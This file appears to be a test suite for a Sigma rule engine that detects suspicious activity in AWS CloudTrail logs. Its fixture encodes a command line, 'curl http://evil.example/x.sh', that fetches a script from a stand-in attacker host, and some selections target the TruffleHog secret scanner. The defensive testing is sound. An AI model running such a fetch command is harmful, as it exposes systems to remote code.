import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseCloudTrail } from '../../server/src/model';
import { MAX_VALUE_CHARS, RuleSet } from '../../server/src/model/detections';
import { findingsOf, loadRules, logOf, matches, ruleText } from './sigmaHelpers';

const record = {
  eventVersion: '1.08',
  eventTime: '2024-05-01T10:00:00Z',
  eventSource: 'iam.amazonaws.com',
  eventName: 'CreateAccessKey',
  awsRegion: 'us-east-1',
  sourceIPAddress: '203.0.113.7',
  userAgent: 'aws-cli/2.15.0 Python/3.11',
  readOnly: false,
  responseCode: 200,
  userIdentity: {
    type: 'IAMUser',
    arn: 'arn:aws:iam::111122223333:user/alice',
    userName: 'alice',
    sessionContext: { attributes: { mfaAuthenticated: 'false' } },
  },
  requestParameters: {
    userName: 'bob',
    tags: [
      { key: 'team', value: 'red' },
      { key: 'env', value: 'prod' },
    ],
  },
  resources: [{ ARN: 'arn:aws:iam::111122223333:user/bob' }, { ARN: 'arn:aws:s3:::bucket' }],
  additionalEventData: { encoded: Buffer.from('run curl http://evil.example/x.sh').toString('base64') },
};

describe('sigma: fields, lists and case', () => {
  it('a map of fields is an and, a list of values an or', () => {
    assert.equal(matches('    sel:\n        eventSource: iam.amazonaws.com\n        eventName: CreateAccessKey\n    condition: sel', record), true);
    assert.equal(matches('    sel:\n        eventSource: iam.amazonaws.com\n        eventName: DeleteUser\n    condition: sel', record), false);
    assert.equal(matches('    sel:\n        eventName:\n            - DeleteUser\n            - CreateAccessKey\n    condition: sel', record), true);
  });

  it('a list of maps is an or of ands', () => {
    const detection = '    sel:\n        - eventName: DeleteUser\n        - eventName: CreateAccessKey\n          awsRegion: us-east-1\n    condition: sel';
    assert.equal(matches(detection, record), true);
    assert.equal(matches(detection, { ...record, awsRegion: 'eu-west-1' }), false);
  });

  it('plain values match whole values without case; cased keeps case', () => {
    assert.equal(matches('    sel:\n        eventName: createaccesskey\n    condition: sel', record), true);
    assert.equal(matches('    sel:\n        eventName: CreateAccess\n    condition: sel', record), false);
    assert.equal(matches('    sel:\n        eventName|cased: createaccesskey\n    condition: sel', record), false);
    assert.equal(matches('    sel:\n        eventName|cased: CreateAccessKey\n    condition: sel', record), true);
    // Lower case as JavaScript has it, for any character: the Kelvin sign is a k.
    const agent = (userAgent: string): object => ({ ...record, userAgent });
    assert.equal(matches('    sel:\n        userAgent: key\n    condition: sel', agent('KEY')), true);
    assert.equal(matches('    sel:\n        userAgent: key\n    condition: sel', agent('\u212Aey')), true);
    assert.equal(matches('    sel:\n        userAgent: key\n    condition: sel', agent('kez')), false);
    assert.equal(matches('    sel:\n        userAgent: k\u00e9y\n    condition: sel', agent('K\u00c9Y')), true);
  });

  it('reads the identity fields the model already knows as they are written: empty, not a string, or repeated', () => {
    const withArn = (arn: unknown): object => ({ ...record, userIdentity: { ...record.userIdentity, arn } });
    assert.equal(matches("    sel:\n        userIdentity.arn|endswith: '/alice'\n    condition: sel", record), true);
    assert.equal(matches("    sel:\n        userIdentity.arn: ''\n    condition: sel", withArn('')), true);
    assert.equal(matches('    sel:\n        userIdentity.arn: null\n    condition: sel', withArn('')), false);
    assert.equal(matches('    sel:\n        userIdentity.arn: 5\n    condition: sel', withArn(5)), true);
    assert.equal(matches('    sel:\n        userIdentity.type: 5\n    condition: sel', { ...record, userIdentity: { ...record.userIdentity, type: 5 } }), true);
    // A repeated key: the last one is the value, as everywhere else in the model.
    const repeated = logOf(record).replace('"arn": "arn:aws:iam::111122223333:user/alice"', '"arn": "first", "arn": "arn:aws:iam::111122223333:user/bob"');
    const rules = loadRules(ruleText("    sel:\n        userIdentity.arn|endswith: '/bob'\n    condition: sel"));
    assert.equal(rules.detectDocument(parseCloudTrail(repeated)).length, 1);
  });

  it('finds in a log of many records what it finds in each record alone, as records repeat or vary their known fields', () => {
    // Records share their event name, source, identity type and ARN in runs, in other cases, and more of them than a run keeps.
    const names = ['CreateAccessKey', 'createaccesskey', 'CREATEACCESSKEY', 'ListUsers'];
    const records = Array.from({ length: 1200 }, (_, i) => ({
      ...record,
      eventName: names[Math.floor(i / 3) % names.length],
      eventSource: i % 7 === 0 ? 'IAM.amazonaws.com' : 'iam.amazonaws.com',
      userIdentity: { ...record.userIdentity, type: i % 5 === 0 ? 'Root' : 'IAMUser', arn: `arn:aws:iam::111122223333:user/u${String(i % 600)}` },
    }));
    const rules = loadRules(
      ruleText(
        "    sel:\n        eventName: createaccesskey\n        eventSource: iam.amazonaws.com\n        userIdentity.arn|endswith: '0'\n    condition: sel",
      ),
      ruleText('    sel:\n        eventName|cased: CreateAccessKey\n        userIdentity.type: iamuser\n    condition: sel').replace(
        '000000000001',
        '000000000002',
      ),
    );
    const together = rules.detectDocument(parseCloudTrail(logOf(...records))).map((finding) => [finding.record, finding.rule]);
    const alone = records.flatMap((one, i) => rules.detectDocument(parseCloudTrail(logOf(one))).map((finding) => [i, finding.rule]));
    assert.deepEqual(together, alone);
    assert.ok(together.length > 300, `${String(together.length)} findings`);
  });

  it('wildcards * and ?, and their escapes', () => {
    assert.equal(matches("    sel:\n        eventName: 'Create*Key'\n    condition: sel", record), true);
    assert.equal(matches("    sel:\n        eventName: 'Create?ccessKey'\n    condition: sel", record), true);
    assert.equal(matches("    sel:\n        eventName: 'Create??ccessKey'\n    condition: sel", record), false);
    assert.equal(matches("    sel:\n        userAgent: 'aws-cli/*'\n    condition: sel", record), true);
    assert.equal(matches("    sel:\n        eventName: 'Create\\*'\n    condition: sel", record), false);
    assert.equal(matches("    sel:\n        eventName: 'Create\\*'\n    condition: sel", { ...record, eventName: 'Create*' }), true);
    assert.equal(matches("    sel:\n        eventName: 'a\\?b'\n    condition: sel", { ...record, eventName: 'a?b' }), true);
    assert.equal(matches("    sel:\n        eventName: 'a\\?b'\n    condition: sel", { ...record, eventName: 'axb' }), false);
    assert.equal(matches("    sel:\n        eventName: 'a\\\\b'\n    condition: sel", { ...record, eventName: 'a\\b' }), true);
    assert.equal(matches("    sel:\n        eventName: 'a\\b'\n    condition: sel", { ...record, eventName: 'a\\b' }), true);
  });

  it('dotted paths, and any element of an array on the path', () => {
    assert.equal(matches('    sel:\n        userIdentity.sessionContext.attributes.mfaAuthenticated: "false"\n    condition: sel', record), true);
    assert.equal(matches('    sel:\n        requestParameters.tags.key: env\n    condition: sel', record), true);
    assert.equal(matches('    sel:\n        requestParameters.tags.key: owner\n    condition: sel', record), false);
    assert.equal(matches("    sel:\n        resources.ARN|startswith: 'arn:aws:s3'\n    condition: sel", record), true);
  });

  it('a record asked about many paths answers each, also when asked again', () => {
    // Ten paths of one record, each read twice: more than are kept without a map.
    const fields = [
      ['eventVersion', '1.08'],
      ['awsRegion', 'us-east-1'],
      ['sourceIPAddress', '203.0.113.7'],
      ['userAgent', 'aws-cli*'],
      ['userIdentity.userName', 'alice'],
      ['requestParameters.userName', 'bob'],
      ['requestParameters.tags.value', 'prod'],
      ['resources.ARN', 'arn:aws:s3:::bucket'],
      ['responseCode', '200'],
      ['userIdentity.sessionContext.attributes.mfaAuthenticated', 'false'],
    ];
    const selection = (name: string, entries: string[][]): string =>
      `    ${name}:\n${entries.map(([field, value]) => `        ${field}: '${value}'\n`).join('')}`;
    const text = `${selection('first', fields)}${selection('again', [...fields].reverse())}    condition: first and again\n`;
    assert.equal(matches(text, record), true);
    const wrongLast = fields.map(([field, value], i) => [field, i === fields.length - 1 ? 'true' : value]);
    assert.equal(matches(`${selection('first', fields)}${selection('again', wrongLast)}    condition: first and again\n`, record), false);
  });

  it('objects and arrays compare as compact JSON; numbers and booleans by JSON text', () => {
    assert.equal(matches(`    sel:\n        requestParameters.tags|contains: '{"key":"env","value":"prod"}'\n    condition: sel`, record), true);
    assert.equal(matches(`    sel:\n        userIdentity.sessionContext: '{"attributes":{"mfaAuthenticated":"false"}}'\n    condition: sel`, record), true);
    assert.equal(matches('    sel:\n        readOnly: false\n    condition: sel', record), true);
    assert.equal(matches("    sel:\n        readOnly: 'false'\n    condition: sel", record), true);
    assert.equal(matches('    sel:\n        readOnly: true\n    condition: sel', record), false);
    assert.equal(matches('    sel:\n        responseCode: 200\n    condition: sel', record), true);
    assert.equal(matches("    sel:\n        responseCode: '2*'\n    condition: sel", record), true);
  });

  it('null matches a missing or null field', () => {
    assert.equal(matches('    sel:\n        errorCode: null\n    condition: sel', record), true);
    assert.equal(matches('    sel:\n        errorCode: null\n    condition: sel', { ...record, errorCode: null }), true);
    assert.equal(matches('    sel:\n        errorCode: null\n    condition: sel', { ...record, errorCode: 'AccessDenied' }), false);
    assert.equal(matches("    sel:\n        errorCode: ''\n    condition: sel", record), false);
    assert.equal(matches("    sel:\n        errorCode: ''\n    condition: sel", { ...record, errorCode: '' }), true);
  });

  it('keyword lists search every value of the record', () => {
    assert.equal(matches('    keywords:\n        - alice\n    condition: keywords', record), true);
    assert.equal(matches("    keywords:\n        - 'iam::111122223333:user/b'\n    condition: keywords", record), true);
    assert.equal(matches('    keywords:\n        - mallory\n    condition: keywords', record), false);
  });
});

describe('sigma: modifiers', () => {
  const m = (key: string, value: string): string => `    sel:\n        ${key}: ${value}\n    condition: sel`;

  it('contains, startswith, endswith, all', () => {
    assert.equal(matches(m('userAgent|contains', 'python'), record), true);
    assert.equal(matches(m('userAgent|startswith', 'AWS-CLI'), record), true);
    assert.equal(matches(m('userAgent|startswith', 'python'), record), false);
    assert.equal(matches(m('userAgent|endswith', "'3.11'"), record), true);
    assert.equal(matches(m('userAgent|contains|all', '[aws-cli, python]'), record), true);
    assert.equal(matches(m('userAgent|contains|all', '[aws-cli, boto3]'), record), false);
    assert.equal(matches(m('userAgent|contains', '[boto3, python]'), record), true);
  });

  it('re, with i, m and s; case-sensitive without i', () => {
    assert.equal(matches(m('userIdentity.arn|re', "'^arn:aws:iam::\\d{12}:user/'"), record), true);
    assert.equal(matches(m('userIdentity.arn|re', "'USER/ALICE$'"), record), false);
    assert.equal(matches(m('userIdentity.arn|re|i', "'USER/ALICE$'"), record), true);
    assert.equal(matches(m('userAgent|re|s', "'cli.*Python'"), { ...record, userAgent: 'aws-cli\nPython' }), true);
    assert.equal(matches(m('userAgent|re', "'cli.*Python'"), { ...record, userAgent: 'aws-cli\nPython' }), false);
    assert.equal(matches(m('userAgent|re|m', "'^Python'"), { ...record, userAgent: 'aws-cli\nPython' }), true);
    assert.equal(matches(m('userAgent|re', "'^Python'"), { ...record, userAgent: 'aws-cli\nPython' }), false);
    // Without case, RE2 takes the long s and the Kelvin sign for s and k, as Unicode case folding does.
    assert.equal(matches(m('userAgent|re|i', "'secret-key'"), { ...record, userAgent: '\u017fecret-\u212Aey' }), true);
    assert.equal(matches(m('userAgent|re|i', "'secret-key'"), { ...record, userAgent: 'SECRET-KEY' }), true);
    assert.equal(matches(m('userAgent|re|i', "'secret-key'"), { ...record, userAgent: 'secret-kez' }), false);
  });

  it('a pathological regular expression runs in linear time on a long hostile value', () => {
    const hostile = { ...record, userAgent: `${'a'.repeat(100_000)}!` };
    const started = process.hrtime.bigint();
    assert.equal(matches(m('userAgent|re', "'^(a+)+$'"), hostile), false);
    // Backtracking engines take minutes here; this only guards against going back to one.
    assert.ok(Number(process.hrtime.bigint() - started) / 1e9 < 10);
  });

  it('cidr, IPv4 and IPv6', () => {
    assert.equal(matches(m('sourceIPAddress|cidr', "'203.0.113.0/24'"), record), true);
    assert.equal(matches(m('sourceIPAddress|cidr', "'10.0.0.0/8'"), record), false);
    assert.equal(matches(m('sourceIPAddress|cidr', "'2001:db8::/32'"), { ...record, sourceIPAddress: '2001:db8:1::5' }), true);
    assert.equal(matches(m('sourceIPAddress|cidr', "'2001:db8::/32'"), { ...record, sourceIPAddress: 'AWS Internal' }), false);
  });

  it('exists', () => {
    assert.equal(matches(m('requestParameters.userName|exists', 'true'), record), true);
    assert.equal(matches(m('errorCode|exists', 'true'), record), false);
    assert.equal(matches(m('errorCode|exists', 'false'), record), true);
  });

  it('fieldref compares two fields of the record', () => {
    assert.equal(matches(m('userIdentity.userName|fieldref', 'requestParameters.userName'), record), false);
    assert.equal(matches(m('userIdentity.userName|fieldref', 'requestParameters.userName'), { ...record, requestParameters: { userName: 'ALICE' } }), true);
    assert.equal(matches(m('userIdentity.arn|fieldref|endswith', 'userIdentity.userName'), record), true);
  });

  it('lt, lte, gt, gte compare numbers', () => {
    assert.equal(matches(m('responseCode|gte', '200'), record), true);
    assert.equal(matches(m('responseCode|gt', '200'), record), false);
    assert.equal(matches(m('responseCode|lt', '300'), record), true);
    assert.equal(matches(m('responseCode|lte', '199'), record), false);
    assert.equal(matches(m('eventName|lt', '5'), record), false);
  });

  it('base64 and base64offset', () => {
    const encoded = Buffer.from('hello').toString('base64');
    assert.equal(matches(m('additionalEventData.encoded|base64', 'hello'), { ...record, additionalEventData: { encoded } }), true);
    assert.equal(matches(m('additionalEventData.encoded|base64offset|contains', "'http://evil.example'"), record), true);
    assert.equal(matches(m('additionalEventData.encoded|base64offset|contains', "'http://good.example'"), record), false);
  });
});

describe('sigma: conditions', () => {
  const detection = (condition: string): string =>
    `    sel_iam:\n        eventSource: iam.amazonaws.com\n    sel_key:\n        eventName: CreateAccessKey\n    filter_alice:\n        userIdentity.userName: alice\n    condition: ${condition}`;

  it('and, or, not, parentheses, and precedence', () => {
    assert.equal(matches(detection('sel_iam and sel_key'), record), true);
    assert.equal(matches(detection('sel_iam and not filter_alice'), record), false);
    assert.equal(matches(detection('sel_iam and not (filter_alice or sel_key)'), record), false);
    assert.equal(matches(detection('not sel_iam or sel_key'), record), true);
    assert.equal(matches(detection('not (sel_iam or sel_key)'), record), false);
    assert.equal(matches(detection('filter_alice and not sel_key or sel_iam'), record), true);
  });

  it('1 of, all of, them', () => {
    assert.equal(matches(detection('all of sel_*'), record), true);
    assert.equal(matches(detection('1 of filter*'), record), true);
    assert.equal(matches(detection('all of them'), record), true);
    assert.equal(matches(detection('1 of them and not 1 of filter_*'), record), false);
    assert.equal(matches(detection('all of them'), { ...record, userIdentity: { userName: 'bob' } }), false);
    assert.equal(matches(detection('1 of them'), { ...record, eventSource: 'x', eventName: 'y', userIdentity: {} }), false);
  });

  it('several conditions are alternatives', () => {
    const text = `    a:\n        eventName: DeleteUser\n    b:\n        eventName: CreateAccessKey\n    condition:\n        - a\n        - b`;
    assert.equal(matches(text, record), true);
  });
});

describe('sigma: rule files', () => {
  it('reads the metadata, with ATT&CK tags', () => {
    const rules = loadRules(
      ruleText(
        '    sel:\n        eventName: X\n    condition: sel',
        'description: what it is\nfalsepositives:\n    - admins\nreferences:\n    - https://example.com\n',
      ),
    );
    const metadata = rules.rules[0].metadata;
    assert.equal(metadata.title, 'Test rule');
    assert.equal(metadata.level, 'high');
    assert.equal(metadata.author, 'Test Author');
    assert.deepEqual(metadata.attackTechniques, ['T1098']);
    assert.deepEqual(metadata.attackTactics, ['persistence']);
    assert.deepEqual(metadata.falsepositives, ['admins']);
    assert.deepEqual(metadata.references, ['https://example.com']);
    assert.equal(metadata.file, 'rule0.yml');
    assert.deepEqual(rules.rules[0].detection?.condition, { kind: 'selection', name: 'sel' });
  });

  it('reports an unknown modifier at its key, and keeps the other rules', () => {
    const bad = ruleText('    sel:\n        eventName|containz: X\n    condition: sel');
    const good = ruleText('    sel:\n        eventName: CreateAccessKey\n    condition: sel').replace('00000000-0000-4000-8000-000000000001', 'other-id');
    const rules = loadRules(bad, good);
    const problems = rules.files[0].problems;
    assert.equal(problems.length, 1);
    assert.equal(problems[0].code, 'sigma-unknown-modifier');
    assert.equal(bad.slice(problems[0].span.start, problems[0].span.end), 'eventName|containz');
    assert.equal(rules.rules.length, 1);
    assert.equal(findingsOf(rules, record).length, 1);
  });

  it('reports an undefined identifier in the condition where it is written', () => {
    const text = ruleText('    sel:\n        eventName: X\n    condition: sel and not filter');
    const problems = loadRules(text).files[0].problems;
    assert.equal(problems[0].code, 'sigma-undefined-identifier');
    assert.equal(text.slice(problems[0].span.start, problems[0].span.end), 'filter');
  });

  it('reports a regular expression that cannot be compiled at its value', () => {
    const text = ruleText("    sel:\n        userAgent|re: 'a(b'\n    condition: sel");
    const problems = loadRules(text).files[0].problems;
    assert.equal(problems[0].code, 'sigma-bad-regex');
    assert.equal(text.slice(problems[0].span.start, problems[0].span.end), "'a(b'");
  });

  it('reports broken YAML without stopping other files', () => {
    const rules = loadRules('title: [unclosed\n', ruleText('    sel:\n        eventName: CreateAccessKey\n    condition: sel'));
    assert.equal(rules.files[0].problems[0].code, 'sigma-yaml');
    assert.equal(rules.rules.length, 1);
  });

  it('warns about events the catalog does not know', () => {
    const text = ruleText('    sel:\n        eventSource: iam.amazonaws.com\n        eventName: PassRole\n    condition: sel');
    const rules = RuleSet.load([{ path: 'r.yml', text, origin: 'user' }], {
      catalog: { eventExists: (_source, name) => name !== 'PassRole', sourceExists: () => true },
    });
    const warning = rules.files[0].problems.find((problem) => problem.code === 'sigma-unknown-event');
    assert.ok(warning);
    assert.equal(warning.severity, 'warning');
    assert.equal(text.slice(warning.span.start, warning.span.end), 'eventName');
    assert.equal(rules.rules.length, 1, 'the rule still runs');
  });
});

describe('sigma: bounded reading', () => {
  it('a value longer than the bound is read as its first part, and whole-value matches do not pretend', () => {
    const long = 'x'.repeat(MAX_VALUE_CHARS + 10);
    assert.equal(matches("    sel:\n        userAgent|startswith: 'xxx'\n    condition: sel", { ...record, userAgent: long }), true);
    assert.equal(matches("    sel:\n        userAgent|endswith: 'xxx'\n    condition: sel", { ...record, userAgent: long }), false);
  });
});

describe('sigma: the index of rules by event', () => {
  it('tests a record only against rules whose eventName or eventSource can match it', () => {
    const rules = loadRules(
      ruleText('    sel:\n        eventName: CreateAccessKey\n    condition: sel'),
      ruleText('    sel:\n        eventSource: s3.amazonaws.com\n    condition: sel').replace('000000000001', '000000000002'),
    );
    const model = parseCloudTrail(logOf(record, { ...record, eventSource: 's3.amazonaws.com', eventName: 'GetObject' }));
    const findings = rules.detectDocument(model);
    assert.deepEqual(
      findings.map((finding) => [finding.record, finding.rule]),
      [
        [0, 0],
        [1, 1],
      ],
    );
  });

  it('finds the rules of an event name written in another case', () => {
    const rules = loadRules(ruleText('    sel:\n        eventName: ListKeys\n    condition: sel'));
    const names = ['ListKeys', 'LISTKEYS', 'List\u212Aeys', 'ListKeyz', 'ListKey'];
    assert.deepEqual(
      matchingRecordsOf(
        rules,
        names.map((eventName) => ({ ...record, eventName })),
      ),
      [0, 1, 2],
    );
  });
});

describe('sigma: the index finds what the rules find', () => {
  // The same detection twice: once as written (indexed by its literal values or prefixes), once
  // with an alternative that never holds and that no index can use, so that it runs on every record.
  const never = "    never:\n        - 'zz-never-in-a-record-zz'\n";
  const indexedAndPlain = (selection: string): RuleSet =>
    loadRules(
      ruleText(`${selection}    condition: sel\n`),
      ruleText(`${selection}${never}    condition: sel or never\n`).replace('000000000001', '000000000002'),
    );

  const names = [
    'ListUsers',
    'listusers',
    'LISTBUCKETS',
    'List',
    'Lis',
    'L',
    '',
    '\u212Aist',
    'List\u212Aeys',
    'L\u0130st',
    'GetUser',
    'getuser',
    'GetUserPolicy',
    'Get',
    'UpdateFunctionConfiguration20150331v2',
    'updatefunctionconfiguration',
    'DescribeInstances',
    '\u00dcberList',
    'KeyPair',
    '\u212AeyPair',
    '\u212A',
  ];
  const variants: unknown[] = [...names, ...names.map((name) => [name]), ['Other', 'ListUsers'], 5, { ListUsers: 1 }, null, true];
  const arns = [
    'arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc',
    'arn:aws:sts::111122223333:assumed-role/AWS:ec2-instance/i-0abc',
    'arn:aws:sts::111122223333:assumed-role/app/session',
    ':assumed-role/aws:x',
    ':assumed-role/aws:',
    'arn:aws:sts::111122223333:assumed-role/aws:x/assumed-role/app',
  ];
  const agents = ['TruffleHog', 'trufflehog', 'TRUFFLEHOG', 'TruffleHo', 'TruffleHog/3.0', 'Truffle\u212Aog', 'aws-cli/2.15.0', '\u017fecret-tool', 'Secret'];
  const records: object[] = variants.flatMap((eventName, i) => [
    { ...record, eventName, eventSource: i % 2 === 0 ? 'iam.amazonaws.com' : 'IAM.amazonaws.com' },
    { ...record, eventSource: eventName, userAgent: eventName, userIdentity: { ...record.userIdentity, type: eventName, arn: eventName } },
  ]);
  for (const value of [...arns, ...agents, ...arns.map((arn) => [arn]), ...agents.map((agent) => [agent]), 7, '', null]) {
    records.push({ ...record, userAgent: value, userIdentity: { ...record.userIdentity, arn: value } });
  }
  records.push({ ...record, eventName: undefined, eventSource: undefined, userIdentity: { arn: 'x' } });

  const selections = [
    "    sel:\n        eventName: 'List*'\n",
    '    sel:\n        eventName|startswith: list\n',
    "    sel:\n        eventName:\n            - 'Get*'\n            - GetUser\n            - 'ListUsers'\n",
    "    sel:\n        eventName|cased: 'List*'\n",
    "    sel:\n        eventName: 'UpdateFunctionConfiguration*'\n        eventSource: iam.amazonaws.com\n",
    "    sel:\n        eventName:\n            - 'Get*'\n            - 'G*'\n",
    "    sel:\n        eventSource: 'List*'\n",
    "    sel:\n        userIdentity.type: 'get*'\n",
    '    sel:\n        eventName: 5\n',
    "    sel:\n        eventName: '5'\n",
    "    sel:\n        eventName: 'L?st*'\n",
    "    sel:\n        eventName: '\u00fcber*'\n",
    "    sel:\n        eventName: 'keyp*'\n",
    "    sel:\n        eventName: 'ListUsers'\n",
    "    sel:\n        eventSource: 'listusers'\n",
    "    sel:\n        userIdentity.type: 'ListUsers'\n",
    "    sel:\n        userAgent: 'TruffleHog'\n",
    "    sel:\n        userAgent|re: 'Truffle.*'\n",
    "    sel:\n        userAgent|re|i: 'secret'\n",
    "    sel:\n        userIdentity.arn|re: '.+:assumed-role/aws:.+'\n    filter:\n        eventSource: 'ssm.amazonaws.com'\n",
    "    sel:\n        userIdentity.arn|re|m: ':assumed-role/aws:'\n",
    "    sel:\n        userIdentity.arn|re|i: ':ASSUMED-ROLE/'\n",
    "    sel:\n        userIdentity.arn:\n            - '*:assumed-role/aws:*'\n            - 'ListUsers'\n",
    "    sel:\n        userIdentity.arn|re:\n            - 'assumed-role/aws:'\n            - 'assumed-role/app'\n",
  ];

  it('gives the same findings with and without the index, whatever the field holds', () => {
    for (const selection of selections) {
      const rules = indexedAndPlain(selection);
      const findings = rules.detectDocument(parseCloudTrail(logOf(...records)));
      const byRule = [0, 1].map((rule) => findings.filter((finding) => finding.rule === rule).map((finding) => finding.record));
      assert.deepEqual(byRule[0], byRule[1], selection);
      assert.ok(byRule[0].length > 0, `${selection} matches some record`);
    }
  });

  it('runs the rules of a field that is there as an array or a number, not only as a string', () => {
    const rules = loadRules(ruleText("    sel:\n        eventName: 'DeleteTrail'\n    condition: sel\n"));
    const logged = [
      { ...record, eventName: ['DeleteTrail'] },
      { ...record, eventName: 'DeleteTrail' },
      { ...record, eventName: ['Other'] },
      { ...record, eventName: undefined },
    ];
    assert.deepEqual(matchingRecordsOf(rules, logged), [0, 1]);
    const typed = loadRules(ruleText("    sel:\n        userIdentity.type: '5'\n    condition: sel\n"));
    assert.deepEqual(
      matchingRecordsOf(typed, [
        { ...record, userIdentity: { type: 5 } },
        { ...record, userIdentity: { type: '5' } },
        { ...record, userIdentity: {} },
      ]),
      [0, 1],
    );
  });
});

function matchingRecordsOf(rules: ReturnType<typeof loadRules>, records: object[]): number[] {
  return [...new Set(rules.detectDocument(parseCloudTrail(logOf(...records))).map((finding) => finding.record))].sort((a, b) => a - b);
}
